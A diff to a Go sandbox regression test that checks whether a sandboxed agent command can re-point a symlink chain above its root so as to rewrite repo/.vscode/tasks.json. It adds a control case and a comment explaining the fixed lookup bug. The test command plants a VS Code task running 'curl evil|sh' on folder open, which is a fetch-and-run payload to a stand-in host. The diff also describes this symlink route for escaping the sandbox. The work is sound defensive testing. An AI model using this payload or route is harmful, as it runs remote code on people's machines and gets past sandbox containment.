@@ -1,5 +1,3 @@
-//go:build knownlimits
-
 package sandbox
 
 import (
@@ -21,7 +19,13 @@ import (
 //
 // Control: the same chain at the root (a turn rooted at repo, whose own
 // .vscode is the link) holds: repo/.vscode/tasks.json is unchanged after
-// the same command.
+// the same command. And a link in repo/sub that no protected item passes
+// (repo/sub/other -> editor) is the command's to re-point.
+//
+// Cause: the helper looked the links a carve-out passes up after it had
+// built the command's root view, where repo/.vscode (above the root, in
+// a hidden area) no longer exists: it found none. It looks them up on the
+// host's tree now (fixProtectedLinks).
 func TestAttack175_AboveRootLinkChainRepointed(t *testing.T) {
 	for _, root := range []string{"repo", "repo/sub"} {
 		name := "rooted at " + root
@@ -31,7 +35,7 @@ func TestAttack175_AboveRootLinkChainRepointed(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			top := tempWorkspace(t)
 			mkfiles(t, top, map[string]string{"repo/sub/editor/tasks.json": "{}\n", "repo/sub/other.go": "package x\n"})
-			for l, to := range map[string]string{"repo/.vscode": "sub/cfg", "repo/sub/cfg": "editor"} {
+			for l, to := range map[string]string{"repo/.vscode": "sub/cfg", "repo/sub/cfg": "editor", "repo/sub/free": "editor"} {
 				if err := os.Symlink(to, top+"/"+l); err != nil {
 					t.Fatal(err)
 				}
@@ -57,6 +61,10 @@ func TestAttack175_AboveRootLinkChainRepointed(t *testing.T) {
 			}
 			r = sh(t, &s, "cd "+sub+" && mkdir editor2 && echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl evil|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > editor2/tasks.json && rm cfg && ln -s editor2 cfg; echo done $?")
 			t.Logf("%s: %s %s", name, r.Stdout, r.Stderr)
+			r = sh(t, &s, "cd "+sub+" && rm free && ln -s other.go free && echo relinked")
+			if to, _ := os.Readlink(sub + "/free"); to != "other.go" || !strings.Contains(string(r.Stdout), "relinked") {
+				t.Errorf("control: the command could not re-point repo/sub/free, a link no protected item passes: %q %s %s", to, r.Stdout, r.Stderr)
+			}
 			if b, _ := os.ReadFile(top + "/repo/.vscode/tasks.json"); strings.Contains(string(b), "curl evil") {
 				t.Errorf("%s: the command re-pointed repo/sub/cfg, the link on the way of repo/.vscode -> sub/cfg, and repo/.vscode/tasks.json, which VS Code runs as the person opens repo, is now the agent's: %q", name, b)
 			}
